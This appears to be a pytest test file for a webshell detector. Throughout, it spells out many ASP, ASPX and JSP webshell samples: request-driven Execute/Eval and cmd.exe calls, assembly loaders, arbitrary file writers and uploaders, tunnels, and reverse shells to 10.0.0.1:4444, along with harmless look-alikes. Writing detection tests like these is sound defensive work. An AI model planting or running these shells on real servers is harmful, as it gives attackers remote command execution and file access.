"""Near variants of the classic ASP and ASP.NET behaviours the reader knows: every Request collection,
every Execute/Eval spelling, CreateObject with split or built ProgIDs, WScript.Shell and
Shell.Application, ScriptControl, ADODB.Stream/FSO writes, ADODB consoles, JScript eval, and in
ASP.NET Process/ProcessStartInfo, Assembly.Load, CodeDom, reflection with built names, COM by ProgID,
PowerShell, File.WriteAllBytes and SQL consoles, so a shell is caught by what it does. Benign
look-alikes (an upload class writing under Server.MapPath, a database page with request values in its
own SQL, an admin page with a fixed command) stay below the threshold. Every sample is written here."""

import pytest

from tests.unit import variant_asserts


def hits(text, name):
    return variant_asserts.hits(text, name)


def assert_shell(text, name="x.asp"):
    return variant_asserts.assert_shell(text, name)


def assert_benign(text, name="x.asp"):
    variant_asserts.assert_benign(text, name)


# --- classic ASP, VBScript -------------------------------------------------------------------------

VB_SOURCES = {
    "bare": 'Request("c")',
    "form": 'Request.Form("c")',
    "query": 'Request.QueryString("c")',
    "item": 'Request.Item("c")',
    "cookie": 'Request.Cookies("c")',
    "header": 'Request.ServerVariables("HTTP_X_CMD")',
    "form-item": 'Request.Form.Item("c")',
    "form-index": "Request.Form(1)",
    "binary": "BytesToStr(Request.BinaryRead(Request.TotalBytes))",
    "trimmed": 'Trim(CStr(Request("c")))',
    "unescaped": 'Unescape(Request("c"))',
}

VB_SINKS = {
    "execute": "Execute x",
    "execute-paren": "Execute(x)",
    "executeglobal": "ExecuteGlobal x",
    "eval": "Eval(x)",
    "eval-call": "Call Eval(x)",
    "wsh-run": 'Set o = Server.CreateObject("WScript.Shell")\no.Run "cmd /c " & x, 0, True',
    "wsh-exec": 'Set o = CreateObject("WScript.Shell")\nResponse.Write o.Exec("cmd /c " & x).StdOut.ReadAll',
    "wsh-split": 'Set o = Server.CreateObject("WScr" & "ipt.She" & "ll")\no.Run x',
    "wsh-chr": 'Set o = CreateObject(Chr(87) & "Script." & Chr(83) & "hell")\no.Exec(x)',
    "wsh-reversed": 'Set o = CreateObject(StrReverse("llehS.tpircSW"))\no.Run x',
    "shell-app": 'Set o = CreateObject("Shell.Application")\no.ShellExecute "cmd.exe", "/c " & x, "", "open", 0',
    "script-control": 'Set o = CreateObject("MSScriptControl.ScriptControl")\no.Language = "VBScript"\no.AddCode x',
    "script-control-eval": 'Set o = CreateObject("ScriptControl")\no.Language = "JScript"\nResponse.Write o.Eval(x)',
    "wmi": 'Set o = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")\no.Create x, Null, Null, pid',
}


@pytest.mark.parametrize("src", sorted(VB_SOURCES))
def test_every_vbscript_source_reaches_execute(src):
    assert_shell(f"<%\nx = {VB_SOURCES[src]}\nExecute x\n%>")


@pytest.mark.parametrize("sink", sorted(VB_SINKS))
def test_every_vbscript_sink_spelling(sink):
    assert_shell(f'<%\nx = Request.Form("c")\n{VB_SINKS[sink]}\n%>')


@pytest.mark.parametrize("sink", ["execute", "wsh-run", "shell-app"])
def test_vbscript_sinks_in_a_server_script_block(sink):
    body = VB_SINKS[sink]
    assert_shell(f'<script runat="server" language="vbscript">\nx = Request("c")\n{body}\n</script>')


def test_execute_through_the_session():
    assert_shell('<%\nIf Request("c") <> "" Then Session("k") = Request("c")\nExecute Session("k")\n%>')


def test_execute_through_an_own_function():
    assert_shell("<%\nFunction Run(s)\n  ExecuteGlobal s\nEnd Function\nRun Request.Form(\"c\")\n%>")


def test_execute_colon_separated():
    assert_shell('<%x=request("c"):execute(x)%>')


def test_adodb_stream_writes_the_request_body():
    assert_shell('<%\nSet st = Server.CreateObject("ADODB.Stream")\nst.Type = 1\nst.Open\n'
                 "st.Write Request.BinaryRead(Request.TotalBytes)\n"
                 "st.SaveToFile Request.QueryString(\"f\"), 2\nst.Close\n%>")


def test_fso_writes_a_request_page():
    assert_shell('<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\n'
                 'Set f = fso.CreateTextFile(Request.Form("path"), True)\nf.Write Request.Form("body")\n'
                 "f.Close\n%>")


def test_adodb_sql_console():
    assert_shell('<%\nSet conn = Server.CreateObject("ADODB.Connection")\nconn.Open Request.Form("conn")\n'
                 'Set rs = conn.Execute(Request.Form("sql"))\nDo While Not rs.EOF\n'
                 "Response.Write rs(0)\nrs.MoveNext\nLoop\n%>")


JS_SINKS = {
    "eval": "eval(x);",
    "eval-unsafe": 'eval(x, "unsafe");',
    "function": "new Function(x)();",
    "wsh": 'var o = Server.CreateObject("WScript.Shell"); o.Run("cmd /c " + x);',
    "wsh-split": 'var o = new ActiveXObject("WScript." + "Shell"); o.Exec(x);',
}


@pytest.mark.parametrize("sink", sorted(JS_SINKS))
@pytest.mark.parametrize("src", ['Request("c")', 'Request.Form("c")', 'Request.Item["c"]', 'String(Request.QueryString("c"))'])
def test_jscript_asp(sink, src):
    assert_shell(f'<%@ Language="JScript" %><% var x = {src}; {JS_SINKS[sink]} %>')


# --- ASP.NET, C# ---------------------------------------------------------------------------------------

CS_SOURCES = {
    "index": 'Request["c"]',
    "form": 'Request.Form["c"]',
    "query": 'Request.QueryString["c"]',
    "params": 'Request.Params["c"]',
    "header": 'Request.Headers["X-Cmd"]',
    "cookie": 'Request.Cookies["c"].Value',
    "context": 'HttpContext.Current.Request.Form["c"]',
    "page": 'Page.Request.Item["c"]',
    "stream": "new System.IO.StreamReader(Request.InputStream).ReadToEnd()",
    "binary": "System.Text.Encoding.UTF8.GetString(Request.BinaryRead(Request.ContentLength))",
    "base64": 'System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["c"]))',
}

CS_SINKS = {
    "start": 'System.Diagnostics.Process.Start("cmd.exe", "/c " + x);',
    "psi": 'var psi = new System.Diagnostics.ProcessStartInfo(); psi.FileName = "cmd.exe"; psi.Arguments = "/c " + x;'
           " psi.UseShellExecute = false; psi.RedirectStandardOutput = true;"
           " Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());",
    "psi-ctor": 'Process.Start(new ProcessStartInfo("cmd.exe", "/c " + x) { UseShellExecute = false });',
    "process-obj": 'Process p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + x;'
                   " p.Start();",
    "reflect": 'Type t = Type.GetType("System.Diagnostics." + "Process"); t.GetMethod("Start", new Type[] {'
               ' typeof(string), typeof(string) }).Invoke(null, new object[] { "cmd.exe", "/c " + x });',
    "com": 'object sh = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell"));'
           ' sh.GetType().InvokeMember("Run", System.Reflection.BindingFlags.InvokeMethod, null, sh,'
           " new object[] { x });",
    "powershell": "System.Management.Automation.PowerShell.Create().AddScript(x).Invoke();",
    "codedom": "var r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource("
               'new System.CodeDom.Compiler.CompilerParameters(), x); r.CompiledAssembly.CreateInstance("P");',
    "jscript-eval": "Microsoft.JScript.Eval.JScriptEvaluate(x, Microsoft.JScript.Vsa.VsaEngine.CreateEngine());",
    "assembly": "System.Reflection.Assembly.Load(Convert.FromBase64String(x)).CreateInstance(\"P\").Equals(this);",
    "domain": 'AppDomain.CurrentDomain.Load(Convert.FromBase64String(x)).GetType("P").GetMethod("Run")'
              ".Invoke(null, null);",
    "shell": "Microsoft.VisualBasic.Interaction.Shell(x);",
}


@pytest.mark.parametrize("src", sorted(CS_SOURCES))
def test_every_csharp_source_reaches_process_start(src):
    assert_shell(f'<%@ Page Language="C#" %><% string x = {CS_SOURCES[src]};'
                 f' System.Diagnostics.Process.Start("cmd.exe", "/c " + x); %>', "x.aspx")


@pytest.mark.parametrize("sink", sorted(CS_SINKS))
def test_every_csharp_sink_spelling(sink):
    assert_shell(f'<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %>'
                 f'<% string x = Request.Form["c"]; {CS_SINKS[sink]} %>', "x.aspx")


@pytest.mark.parametrize("sink", ["start", "psi", "assembly", "codedom"])
def test_csharp_sinks_in_a_handler(sink):
    assert_shell('<%@ WebHandler Language="C#" Class="H" %>\nusing System; using System.Web;'
                 " using System.Diagnostics;\npublic class H : IHttpHandler {\n"
                 "  public void ProcessRequest(HttpContext context) {\n"
                 f'    string x = context.Request["c"]; var Response = context.Response; {CS_SINKS[sink]}\n'
                 "  }\n  public bool IsReusable { get { return false; } }\n}", "x.ashx")


@pytest.mark.parametrize("sink", ["start", "psi", "assembly"])
def test_csharp_sinks_in_a_script_block(sink):
    assert_shell('<%@ Page Language="C#" %><script runat="server">\nprotected void Page_Load(object s, EventArgs e) {\n'
                 f'  string x = Request.Form["c"]; {CS_SINKS[sink]}\n}}\n</script>', "x.aspx")


def test_razor_page():
    assert_shell('@{ var x = Request["c"]; System.Diagnostics.Process.Start("cmd.exe", "/c " + x); }', "x.cshtml")


def test_request_body_loaded_as_assembly():
    assert_shell('<%@ Page Language="C#" %><% byte[] b = new byte[Request.InputStream.Length];'
                 " Request.InputStream.Read(b, 0, b.Length);"
                 ' System.Reflection.Assembly.Load(b).CreateInstance("U").Equals(this); %>', "x.aspx")


def test_aes_assembly_loader():
    assert_shell('<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k",'
                 '"e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),'
                 " c = Request.BinaryRead(Request.ContentLength);"
                 " Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k)"
                 '.TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>', "x.aspx")


def test_write_all_bytes_of_request_data():
    assert_shell('<%@ Page Language="C#" %><% System.IO.File.WriteAllBytes(Request.Form["path"],'
                 ' Convert.FromBase64String(Request.Form["data"])); %>', "x.aspx")


def test_sql_console():
    assert_shell('<%@ Page Language="C#" %><%@ Import Namespace="System.Data.SqlClient" %><%'
                 ' using (var c = new SqlConnection(Request.Form["cs"])) { c.Open();'
                 ' var r = new SqlCommand(Request.Form["q"], c).ExecuteReader();'
                 " while (r.Read()) Response.Write(r[0]); } %>", "x.aspx")


def test_vbnet_page():
    assert_shell('<%@ Page Language="VB" %><%\nDim p As New System.Diagnostics.Process()\n'
                 'p.StartInfo.FileName = "cmd.exe"\np.StartInfo.Arguments = "/c " & Request("c")\n'
                 "p.StartInfo.UseShellExecute = False\np.Start()\n%>", "x.aspx")


def test_jscript_net_eval():
    assert_shell('<%@ Page Language="Jscript" %><% var x = Request.Item["c"]; eval(x, "unsafe"); %>', "x.aspx")


# --- benign look-alikes ---------------------------------------------------------------------------------

def test_benign_asp_upload_class():
    assert_benign('<%\nSet up = New FileUploader\nup.Upload\nFor Each f In up.Files.Items\n'
                  '  ext = LCase(Mid(f.FileName, InStrRev(f.FileName, ".") + 1))\n'
                  '  If ext = "jpg" Or ext = "png" Then f.SaveToDisk Server.MapPath("/uploads")\nNext\n'
                  "Class FileUploader\n  Public Files\n  Public Sub Upload()\n"
                  "    data = Request.BinaryRead(Request.TotalBytes)\n"
                  '    Set st = Server.CreateObject("ADODB.Stream")\n    st.Type = 1\n    st.Open\n'
                  "    st.Write data\n"
                  '    st.SaveToFile Server.MapPath("/uploads/tmp.bin"), 2\n  End Sub\nEnd Class\n%>')


def test_benign_asp_database_page():
    assert_benign('<%\nSet conn = Server.CreateObject("ADODB.Connection")\n'
                  'conn.Open "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Server.MapPath("db.mdb")\n'
                  'id = CLng(Request.QueryString("id"))\n'
                  'Set rs = conn.Execute("SELECT title, body FROM posts WHERE id=" & id)\n'
                  'Response.Write Server.HTMLEncode(rs("title"))\nrs.Close\nconn.Close\n%>')


def test_benign_asp_admin_fixed_command():
    assert_benign('<%\nIf Session("admin") Then\n  Set o = CreateObject("WScript.Shell")\n'
                  '  o.Run "iisreset /restart", 0, True\n  Response.Write "restarted by " & Server.HTMLEncode(Request("who"))\n'
                  "End If\n%>")


def test_benign_aspx_upload_control():
    assert_benign('<%@ Page Language="C#" %><script runat="server">\nprotected void Up(object s, EventArgs e) {\n'
                  '  var ext = System.IO.Path.GetExtension(FileUpload1.FileName).ToLower();\n'
                  '  if (ext != ".jpg") return;\n'
                  '  FileUpload1.SaveAs(Server.MapPath("~/App_Data/") + Guid.NewGuid() + ext);\n}\n</script>'
                  '<asp:FileUpload id="FileUpload1" runat="server" />', "x.aspx")


def test_benign_aspx_database_page():
    assert_benign('<%@ Page Language="C#" %><% using (var c = new SqlConnection(ConfigurationManager'
                  '.ConnectionStrings["db"].ConnectionString)) { c.Open(); var cmd = new SqlCommand('
                  '"SELECT name FROM products WHERE id = @id", c); cmd.Parameters.AddWithValue("@id",'
                  ' Request.QueryString["id"]); Response.Write(cmd.ExecuteScalar()); } %>', "x.aspx")


def test_benign_aspx_fixed_process():
    assert_benign('<%@ Page Language="C#" %><% var p = System.Diagnostics.Process.Start("ipconfig.exe");'
                  ' Response.Write(Server.HtmlEncode(Request["name"])); %>', "x.aspx")


# --- remote relays (SEO parasites): no sink, content from the author's host ----------------------

_GETHTML = ('Function GetHtml(url)\n  Set o = Server.CreateObject("MSXML2.ServerXMLHTTP")\n  o.Open "GET", url, False\n'
            "  o.Send\n  GetHtml = o.ResponseText\nEnd Function\n")


def test_relay_reporting_the_site_to_a_remote_host():
    h = assert_shell('<%\nRemote_server = "http://203.0.113.7/"\n'
                     'host_name = "http://" & Request.ServerVariables("HTTP_HOST") & Request.ServerVariables("SCRIPT_NAME")\n'
                     'Response.Write GetHtml(Remote_server & "index.php?host=" & host_name)\n' + _GETHTML + "%>")
    assert h.rule == "asp.remote-relay" and h.family == "seo-parasite"


def test_relay_for_crawlers_only_in_global_asa():
    assert_shell('<script language="vbscript" runat="server">\nSub Session_OnStart\n'
                 'ua = Request.ServerVariables("HTTP_USER_AGENT")\n'
                 'If InStr(ua, "Baiduspider") > 0 Or InStr(ua, "Googlebot") > 0 Then\n'
                 '  Response.Write GetHtml("http://parasite.example/p.php")\n  Response.End\nEnd If\nEnd Sub\n'
                 + _GETHTML + "</script>", "global.asa")


def test_relay_in_csharp():
    assert_shell('<%@ Page Language="C#" %><% if (Request.UserAgent.Contains("Baiduspider")) {'
                 ' Response.Write(new System.Net.WebClient().DownloadString("http://parasite.example/?h=" +'
                 ' Request.Url.Host)); } %>', "x.aspx")


def test_relay_in_jsp():
    h = assert_shell('<% String ua = request.getHeader("user-agent"); if (ua != null && ua.contains("Baiduspider"))'
                     ' { java.io.InputStream in = new java.net.URL("http://parasite.example/c.txt").openStream();'
                     ' out.print(new String(in.readAllBytes(), "UTF-8")); } %>', "x.jsp")
    assert h.rule == "jsp.remote-relay"


def test_benign_feed_box_fetching_a_constant_url():
    assert_benign('<%\nResponse.Write "<div class=weather>" & GetHtml("http://weather.example/api/today") & "</div>"\n'
                  + _GETHTML + "%>")


def test_benign_forum_sending_spam_bots_away():
    assert_benign('<%\nagent = LCase(Request.ServerVariables("HTTP_USER_AGENT"))\n'
                  'If InStr(agent, "spambot") > 0 Then Response.Redirect("http://" & Request.ServerVariables("REMOTE_ADDR"))\n'
                  'strIPLookup = "http://samspade.org/whois/"\n%>')


# --- more spellings: object tags, GetRef, class methods, reflection, Roslyn, downloads ---------------

MORE_VB = {
    "object-classid": '<object runat="server" id="sh" scope="page" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8">'
                      '</object><%\nsh.Run Request("c")\n%>',
    "object-progid": '<object runat="server" id="sh" scope="page" progid="WScript.Shell"></object><%\n'
                     'Response.Write sh.Exec(Request("c")).StdOut.ReadAll\n%>',
    "object-fso": '<object runat=server id=fs scope=page classid="clsid:0D43FE01-F093-11CF-8940-00A0C9054228">'
                  '</object><%\nSet f = fs.CreateTextFile(Request("p"), True)\nf.Write Request("d")\n%>',
    "getref": '<%\nSub Go(c)\nExecute c\nEnd Sub\nSet f = GetRef("Go")\nf Request("c")\n%>',
    "class-method": '<%\nClass K\n Public Sub Run(c)\n  ExecuteGlobal c\n End Sub\nEnd Class\nSet k = New K\n'
                    'k.Run Request("c")\n%>',
    "with-block": '<%\nWith CreateObject("WScript.Shell")\n  .Run Request("c"), 0\nEnd With\n%>',
    "execute-unescape": '<%\nExecute Unescape("%65%78%65%63%75%74%65%20%72%65%71%75%65%73%74%28%22%63%22%29")\n%>',
    "chr-built": '<%\nExecute(Chr(101) & Chr(120) & Chr(101) & Chr(99) & Chr(117) & Chr(116) & Chr(101) & " request(""c"")")\n%>',
}


@pytest.mark.parametrize("case", sorted(MORE_VB))
def test_more_vbscript(case):
    assert_shell(MORE_VB[case])


MORE_CS = {
    "typeof-reflect": 'typeof(System.Diagnostics.Process).GetMethod("Start", new[] { typeof(string), typeof(string) })'
                      '.Invoke(null, new object[] { "cmd.exe", "/c " + Request["c"] });',
    "psi-initialiser": "System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo {"
                       ' FileName = "cmd.exe", Arguments = "/c " + Request["c"], UseShellExecute = false });',
    "process-initialiser": "var p = new System.Diagnostics.Process { StartInfo = new System.Diagnostics.ProcessStartInfo("
                           '"cmd.exe", "/c " + Request["c"]) }; p.Start();',
    "dynamic-com": 'dynamic sh = Activator.CreateInstance(Type.GetTypeFromProgID("WScript." + "Shell"));'
                   ' sh.Exec(Request["c"]);',
    "roslyn": 'Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript.EvaluateAsync(Request["c"]).Wait();',
    "vbcodeprovider": "new Microsoft.VisualBasic.VBCodeProvider().CompileAssemblyFromSource("
                      'new System.CodeDom.Compiler.CompilerParameters(), Request["c"]);',
    "entrypoint": 'System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["p"])).EntryPoint'
                  ".Invoke(null, new object[] { new string[0] });",
    "losformatter": 'new System.Web.UI.LosFormatter().Deserialize(Request["v"]);',
    "binaryformatter": "new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter()"
                       ".Deserialize(Request.InputStream);",
    "filestream": 'using (var fs = new System.IO.FileStream(Request["p"], System.IO.FileMode.Create)) {'
                  " Request.InputStream.CopyTo(fs); }",
    "download": 'new System.Net.WebClient().DownloadFile(Request["u"], Server.MapPath(Request["f"]));',
}


@pytest.mark.parametrize("case", sorted(MORE_CS))
def test_more_csharp(case):
    assert_shell(f'<%@ Page Language="C#" %><% {MORE_CS[case]} %>', "x.aspx")


def test_jscript_net_eval_through_an_indexed_alias():
    assert_shell('<%@ Page Language="JScript" %><% var e = this["ev" + "al"]; e(Request["c"]); %>', "x.aspx")


def test_vbnet_handler():
    assert_shell('<%@ WebHandler Language="VB" Class="H" %>\nImports System.Web\nPublic Class H : Implements IHttpHandler\n'
                 " Public Sub ProcessRequest(ByVal context As HttpContext) Implements IHttpHandler.ProcessRequest\n"
                 '  System.Diagnostics.Process.Start("cmd.exe", "/c " & context.Request("c"))\n End Sub\nEnd Class',
                 "x.ashx")


def test_asmx_web_method_parameter():
    assert_shell('<%@ WebService Language="C#" Class="S" %>\nusing System.Web.Services;\npublic class S : WebService {'
                 ' [WebMethod] public string Run(string c) { return System.Diagnostics.Process.Start("cmd.exe",'
                 ' "/c " + c).Id.ToString(); } }', "x.asmx")


def test_benign_object_tag_for_a_dictionary():
    assert_benign('<object runat="server" id="d" progid="Scripting.Dictionary"></object><%\n'
                  'd.Add "q", Request("q")\nResponse.Write Server.HTMLEncode(d("q"))\n%>')


# --- the Request object under another name, and the less common collections -----------------------

ALIASES = [
    ("x.ashx", '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\npublic class H : IHttpHandler {'
               " public void ProcessRequest(HttpContext context) { HttpRequest req = context.Request;"
               ' System.Diagnostics.Process.Start("cmd.exe", "/c " + req.Form["c"]); }'
               " public bool IsReusable { get { return false; } } }"),
    ("x.aspx", '<%@ Page Language="C#" %><% var r = HttpContext.Current.Request;'
               ' System.Diagnostics.Process.Start("cmd.exe", "/c " + r["c"]); %>'),
    ("x.asp", '<%\nSet r = Request\nExecute r("c")\n%>'),
    ("x.asp", '<%\nSet r = Request.Form\nExecute r("c")\n%>'),
    ("x.aspx", '<%@ Page Language="C#" %><% string c = Page.Request.Unvalidated.Form["c"];'
               ' System.Diagnostics.Process.Start("cmd.exe", c); %>'),
    ("x.aspx", '<%@ Page Language="C#" %><% var s = new System.IO.StreamReader(Request.GetBufferedInputStream())'
               '.ReadToEnd(); System.Diagnostics.Process.Start("cmd.exe", s); %>'),
    ("x.aspx", '<%@ Page Language="C#" %><% foreach (string k in Request.Form.AllKeys) {'
               ' System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form[k]); } %>'),
    ("x.asp", '<%\nFor Each k In Request.Form\n  Execute Request.Form(k)\nNext\n%>'),
    ("x.asp", '<%\na = Split(Request.QueryString, "=")\nExecute a(1)\n%>'),
    ("x.asp", '<%\nExecute(Request.Cookies("a")("b"))\n%>'),
]


@pytest.mark.parametrize("name,text", ALIASES)
def test_request_alias_and_collections(name, text):
    assert_shell(text, name)


def test_benign_handler_passing_the_request_to_a_logger():
    assert_benign('<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\npublic class H : IHttpHandler {'
                  " public void ProcessRequest(HttpContext context) { HttpRequest req = context.Request;"
                  ' Log(req); context.Response.Write(HttpUtility.HtmlEncode(req.QueryString["q"]));'
                  ' System.Diagnostics.Process.Start("notify.exe"); }'
                  " void Log(HttpRequest r) { System.Diagnostics.Trace.WriteLine(r.RawUrl); }"
                  " public bool IsReusable { get { return false; } } }", "x.ashx")


# --- file managers and uploaders -----------------------------------------------------------------

TOOLS = {
    "asp-fso-browser": ("x.asp", '<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\np = Request("path")\n'
                        'If p = "" Then p = Server.MapPath(".")\nSet fd = fso.GetFolder(p)\nFor Each f In fd.Files\n'
                        ' Response.Write f.Name & " " & f.Size & "<br>"\nNext\n'
                        'If Request("act") = "del" Then fso.DeleteFile Request("f")\n%>'),
    "asp-fso-edit": ("x.asp", '<%\nSet fso = CreateObject("Scripting.FileSystemObject")\nIf Request.Form("save") <> "" Then\n'
                     ' Set t = fso.CreateTextFile(Request.Form("file"), True)\n t.Write Request.Form("content")\n'
                     " t.Close\nEnd If\n%>"),
    "asp-download-url": ("x.asp", '<%\nSet x = Server.CreateObject("Microsoft.XMLHTTP")\nx.Open "GET", Request("url"), False\n'
                         'x.Send\nSet s = Server.CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\ns.Write x.ResponseBody\n'
                         's.SaveToFile Server.MapPath(Request("name")), 2\n%>'),
    "aspx-browser": ("x.aspx", '<%@ Page Language="C#" %><% string p = Request["d"] ?? Server.MapPath(".");'
                     ' foreach (var f in new System.IO.DirectoryInfo(p).GetFiles()) Response.Write(f.FullName);'
                     ' if (Request["del"] != null) System.IO.File.Delete(Request["del"]); %>'),
    "aspx-edit": ("x.aspx", '<%@ Page Language="C#" %><% if (Request.Form["save"] != null)'
                  ' System.IO.File.WriteAllText(Request.Form["f"], Request.Form["body"]); %>'),
    "aspx-upload-anywhere": ("x.aspx", '<%@ Page Language="C#" %><% if (Request.Files.Count > 0)'
                             ' Request.Files[0].SaveAs(Request.Form["path"]); %>'),
    "jsp-browser": ("x.jsp", '<%@ page import="java.io.*" %><% String p = request.getParameter("path");'
                    ' if (p == null) p = application.getRealPath("/"); for (File f : new File(p).listFiles())'
                    ' out.println(f.getAbsolutePath()); String d = request.getParameter("del");'
                    " if (d != null) new File(d).delete(); String r = request.getParameter(\"read\");"
                    " if (r != null) { BufferedReader br = new BufferedReader(new FileReader(r));"
                    " out.println(br.readLine()); } %>"),
    "jsp-upload-commons": ("x.jsp", '<%@ page import="org.apache.commons.fileupload.*,java.util.*,java.io.*" %><%'
                           " List<FileItem> items = new org.apache.commons.fileupload.servlet.ServletFileUpload("
                           "new org.apache.commons.fileupload.disk.DiskFileItemFactory()).parseRequest(request);"
                           ' String dir = request.getParameter("dir"); for (FileItem it : items) {'
                           " if (!it.isFormField()) it.write(new File(dir, it.getName())); } %>"),
    "jsp-upload-stream": ("x.jsp", '<% java.io.InputStream in = request.getInputStream();'
                          ' java.io.FileOutputStream o = new java.io.FileOutputStream(request.getParameter("to"));'
                          " byte[] b = new byte[4096]; int n; while ((n = in.read(b)) > 0) o.write(b, 0, n);"
                          " o.close(); %>"),
}


@pytest.mark.parametrize("case", sorted(TOOLS))
def test_file_tools(case):
    name, text = TOOLS[case]
    assert_shell(text, name)


def test_benign_asp_folder_view_under_the_site():
    assert_benign('<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\n'
                  'Set fd = fso.GetFolder(Server.MapPath("/gallery/" & Replace(Request("album"), "..", "")))\n'
                  'For Each f In fd.Files\n Response.Write "<img src=""/gallery/" & f.Name & """>"\nNext\n'
                  'If Session("admin") Then fso.DeleteFile Server.MapPath("/gallery/" & Request("del"))\n%>')


def test_benign_jsp_commons_upload_under_the_web_app():
    assert_benign('<%@ page import="org.apache.commons.fileupload.*,java.util.*,java.io.*" %><%'
                  " List<FileItem> items = new org.apache.commons.fileupload.servlet.ServletFileUpload("
                  "new org.apache.commons.fileupload.disk.DiskFileItemFactory()).parseRequest(request);"
                  ' File dir = new File(application.getRealPath("/uploads")); for (FileItem it : items) {'
                  " if (!it.isFormField()) it.write(new File(dir, UUID.randomUUID().toString())); }"
                  ' out.println(request.getParameter("note")); %>', "x.jsp")


# --- tunnels, loaders and reverse shells ---------------------------------------------------------

NET = {
    "regeorg-aspx": ("x.aspx", '<%@ Page Language="C#" %><%@ Import Namespace="System.Net.Sockets" %><%'
                     ' String cmd = Request.Headers.Get("X-CMD"); if (cmd == "CONNECT") {'
                     ' String target = Request.Headers.Get("X-TARGET"); int port = int.Parse(Request.Headers.Get("X-PORT"));'
                     " Socket sock = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);"
                     " sock.Connect(new System.Net.IPEndPoint(System.Net.IPAddress.Parse(target), port));"
                     ' Session.Add("socket", sock); } %>'),
    "regeorg-jsp": ("x.jsp", '<% String cmd = request.getHeader("X-CMD"); if ("CONNECT".equals(cmd)) {'
                    ' String target = request.getHeader("X-TARGET"); int port = Integer.parseInt(request.getHeader("X-PORT"));'
                    " java.nio.channels.SocketChannel ch = java.nio.channels.SocketChannel.open();"
                    " ch.connect(new java.net.InetSocketAddress(target, port)); session.setAttribute(\"socket\", ch); } %>"),
    "portscan-aspx": ("x.aspx", '<%@ Page Language="C#" %><% string ip = Request["ip"]; foreach (string p in'
                      " Request[\"ports\"].Split(',')) { try { var c = new System.Net.Sockets.TcpClient();"
                      ' c.Connect(ip, int.Parse(p)); Response.Write(p + " open"); c.Close(); } catch {} } %>'),
    "godzilla-aspx": ("x.aspx", '<%@ Page Language="C#"%><% string key = "3c6e0b8a9c15224a"; byte[] data ='
                      ' System.Convert.FromBase64String(Context.Request["pass"]); data = new'
                      " System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default"
                      ".GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0,"
                      ' data.Length); if (Context.Session["payload"] == null) { Context.Session["payload"] ='
                      " (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod(\"Load\", new"
                      " System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); } else { object o ="
                      ' ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); } %>'),
    "xor-loader-aspx": ("x.aspx", '<%@ Page Language="C#" %><script runat="server">byte[] X(byte[] d) {'
                        " byte[] k = System.Text.Encoding.UTF8.GetBytes(\"k\"); for (int i = 0; i < d.Length; i++)"
                        " d[i] ^= k[i % k.Length]; return d; } void Page_Load(object s, EventArgs e) {"
                        ' var a = System.Reflection.Assembly.Load(X(Convert.FromBase64String(Request.Form["data"])));'
                        ' Response.Write(a.CreateInstance("P").GetType().GetMethod("Run").Invoke(null, null)); }'
                        "</script>"),
    "reverse-const-aspx": ("x.aspx", '<%@ Page Language="C#" %><% var c = new System.Net.Sockets.TcpClient("10.0.0.1",'
                           " 4444); var r = new System.IO.StreamReader(c.GetStream()); var p = new"
                           ' System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe";'
                           " p.StartInfo.RedirectStandardInput = true; p.StartInfo.UseShellExecute = false; p.Start();"
                           " while (true) { p.StandardInput.WriteLine(r.ReadLine()); } %>"),
    "reverse-const-jsp": ("x.jsp", '<% java.net.Socket s = new java.net.Socket("10.0.0.1", 4444);'
                          ' Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();'
                          " java.io.InputStream si = s.getInputStream(); java.io.OutputStream po = p.getOutputStream();"
                          " while (!s.isClosed()) { while (si.available() > 0) po.write(si.read()); po.flush(); } %>"),
}


@pytest.mark.parametrize("case", sorted(NET))
def test_network_tools(case):
    name, text = NET[case]
    assert_shell(text, name)


def test_benign_aspx_health_check_socket():
    assert_benign('<%@ Page Language="C#" %><% var c = new System.Net.Sockets.TcpClient();'
                  ' c.Connect("db.internal", 5432); Response.Write(c.Connected ? "ok" : "down"); c.Close();'
                  ' System.Diagnostics.Process.Start("logger.exe", "checked"); %>', "x.aspx")


@pytest.mark.parametrize("code", [
    'System.Windows.Markup.XamlReader.Parse(Request["x"]);',
    "var t = new System.Xml.Xsl.XslCompiledTransform(); t.Load(System.Xml.XmlReader.Create(new System.IO.StringReader("
    'Request["x"])), System.Xml.Xsl.XsltSettings.TrustedXslt, null);',
    'System.Reflection.Assembly.LoadFrom(Request["p"]).CreateInstance("X");',
    'Newtonsoft.Json.JsonConvert.DeserializeObject(Request.Form["j"], new Newtonsoft.Json.JsonSerializerSettings {'
    " TypeNameHandling = Newtonsoft.Json.TypeNameHandling.All });",
])
def test_csharp_object_builders_fed_the_request(code):
    assert_shell(f'<%@ Page Language="C#" %><% {code} %>', "x.aspx")


